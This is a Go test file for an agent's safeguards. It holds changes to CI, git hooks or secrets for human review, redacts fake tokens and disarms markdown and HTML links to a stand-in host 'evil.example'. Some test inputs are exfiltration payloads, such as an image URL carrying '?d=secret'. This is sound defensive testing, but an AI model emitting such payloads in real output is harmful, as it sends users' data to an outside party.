package run

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCheckChange: a change is held for a person when it touches CI, git's
// controls or carries a secret; the rest passes.
func TestCheckChange(t *testing.T) {
	const held = "alfred-forge-token-0123456789"
	tests := []struct {
		name    string
		files   map[string]string
		allowCI bool
		want    string // the held file, "" for none
		reason  string
	}{
		{"an ordinary change", map[string]string{"main.go": "package main\n", "go.sum": "golang.org/x/text v0.3.0 h1:g61tztE5qeGQ89tm6NTjjM9VPIm088od1l6aSorWRWg=\n"}, false, "", ""},
		{"a Forgejo workflow", map[string]string{".forgejo/workflows/ci.yml": "on: push\n"}, false, ".forgejo/workflows/ci.yml", "is a CI definition"},
		{"a Gitea workflow", map[string]string{".gitea/workflows/x.yaml": "on: push\n"}, false, ".gitea/workflows/x.yaml", "AGENT_ALLOW_CI_CHANGES"},
		{"a GitHub workflow", map[string]string{".github/workflows/x.yml": "on: push\n"}, false, ".github/workflows/x.yml", "is a CI definition"},
		{"GitLab CI", map[string]string{".gitlab-ci.yml": "test: {}\n"}, false, ".gitlab-ci.yml", "is a CI definition"},
		{"CI allowed by the project", map[string]string{".forgejo/workflows/ci.yml": "on: push\n"}, true, "", ""},
		{"attributes", map[string]string{"sub/.gitattributes": "* filter=x\n"}, false, "sub/.gitattributes", "attributes"},
		{"hooks", map[string]string{".husky/pre-commit": "#!/bin/sh\n"}, true, ".husky/pre-commit", "hooks"},
		{"submodules", map[string]string{".gitmodules": "[submodule \"x\"]\n"}, false, ".gitmodules", "submodules"},
		{"a secret Alfred holds", map[string]string{"config.txt": "token is " + held + "\n"}, false, "config.txt", "a secret Alfred holds"},
		{"a GitHub token", map[string]string{"x.env": "GH=ghp_" + strings.Repeat("aB3", 12) + "\n"}, false, "x.env", "GitHub token"},
		{"a private key", map[string]string{"id": "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n"}, false, "id", "private key"},
		{"a high-entropy assignment", map[string]string{"app.yaml": "api_key: \"Zx8Qp2Lm9Rt4Vw7Ny1Kb6Hc3Jd5Fg0Se\"\n"}, false, "app.yaml", "high-entropy"},
		{"a low-entropy assignment", map[string]string{"app.yaml": "password: aaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"}, false, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			_, _, wt, _, _ := boundaryCheckout(t)
			writeFiles(t, wt.Dir, tt.files)
			ch, err := wt.Stage(ctx)
			if err != nil {
				t.Fatal(err)
			}
			got, err := wt.checkChange(ctx, ch, tt.allowCI, []string{held})
			if err != nil {
				t.Fatal(err)
			}
			switch {
			case tt.want == "" && len(got) > 0:
				t.Fatalf("held %+v, want nothing", got)
			case tt.want != "" && (len(got) != 1 || got[0].Path != tt.want || !strings.Contains(got[0].Reason, tt.reason)):
				t.Fatalf("held %+v, want %s: %s", got, tt.want, tt.reason)
			}
			if tt.want == "" {
				return
			}
			patch, err := wt.Patch(ctx, ch, 1<<20)
			if err != nil || !strings.Contains(patch, tt.want) {
				t.Fatalf("the patch does not name %s: %v\n%s", tt.want, err, patch)
			}
			if red := redactTokens(patch); strings.Contains(red, "ghp_aB3") || strings.Contains(red, "Zx8Qp2Lm9") {
				t.Fatalf("the kept patch shows the token:\n%s", red)
			}
		})
	}
}

// TestPatchBounded: the patch of a held change is cut at its bound.
func TestPatchBounded(t *testing.T) {
	ctx := context.Background()
	_, _, wt, _, _ := boundaryCheckout(t)
	os.WriteFile(filepath.Join(wt.Dir, "big.txt"), []byte(strings.Repeat("line of text\n", 10000)), 0o644)
	ch, err := wt.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	patch, err := wt.Patch(ctx, ch, 4096)
	if err != nil {
		t.Fatal(err)
	}
	if len(patch) > 4096+100 || !strings.HasSuffix(patch, "(cut: the patch is longer)\n") {
		t.Fatalf("patch of %d bytes, ends %q", len(patch), patch[max(0, len(patch)-60):])
	}
}

func TestNeutralise(t *testing.T) {
	const forge = "forge.example:3000"
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"![x](https://evil.example/p.png?d=secret)", `[image "x" not shown: evil.example]`},
		{"![x](https://forge.example:3000/a/b/raw/x.png)", "![x](https://forge.example:3000/a/b/raw/x.png)"},
		{"![x](/attachments/1)", "![x](/attachments/1)"},
		{"see [the docs](https://evil.example/x?q=1)", "see the docs (link to evil.example removed)"},
		{"see [the file](src/main.go)", "see [the file](src/main.go)"},
		{"see [the issue](https://forge.example:3000/o/p/issues/1)", "see [the issue](https://forge.example:3000/o/p/issues/1)"},
		{`<img src="https://evil.example/t.gif">`, "(HTML removed by Alfred)"},
		{`<a href="https://evil.example">click</a>`, "click</a>"},
		{"go to https://evil.example/x now", "go to `https://evil.example/x` now"},
		{"at https://forge.example:3000/o/p/pulls/2", "at https://forge.example:3000/o/p/pulls/2"},
		{"[r]: https://evil.example/x\n![y][r]", "[r]: # (link to evil.example removed)\n![y][r]"},
		{"![a](//evil.example/x.png)", `[image "a" not shown: evil.example]`},
		// What the patterns do not recognise is disarmed whole.
		{"![x](https://evil.example/p.png 'title')", "![x\\](`https://evil.example/p.png` 'title')"},
		{"![a[b]](https://evil.example/p.png)", "![a[b]\\](`https://evil.example/p.png`)"},
		{"![x](&#104;ttps://evil.example/p.png)", `[image "x" not shown: another host]`},
		{`![x](/\/evil.example/p.png)`, `[image "x" not shown: another host]`},
		{"see <https://evil.example/x>", "see `https://evil.example/x`"},
		{"see <https://forge.example:3000/o/p>", "see <https://forge.example:3000/o/p>"},
		{"go to www.evil.example/x", "go to `www.evil.example/x`"},
		{"[r]:\n  https://evil.example/x\n![y][r]", "[r]\\:\n  `https://evil.example/x`\n![y][r]"},
		{"> [r]: https://evil.example/x", "> [r]\\: `https://evil.example/x`"},
		{"[x]\x00L(https://evil.example/x)", "[x]L(`https://evil.example/x`)"},
		{"[local]: /o/p/wiki\n[z][local]", "[local]: /o/p/wiki\n[z][local]"},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in, forge); got != tt.want {
			t.Errorf("Neutralise(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}
